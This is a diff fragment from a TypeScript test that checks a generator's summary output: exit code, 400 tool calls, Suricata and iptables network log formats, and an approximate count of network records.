+  assert.equal(code, 0);
+  const summary = JSON.parse(out.trim().split('\n').pop()!) as { counts: GroundTruth['counts']; files: GroundTruth['files'] };
+  assert.equal(summary.counts.toolCalls, 400);
+  assert.deepEqual(summary.files.network.map((f) => f.format), ['suricata-eve', 'iptables-log']);
+  assert.ok(summary.counts.networkRecords > 300 && summary.counts.networkRecords < 1200, `about 600 records, got ${summary.counts.networkRecords}`);
+});
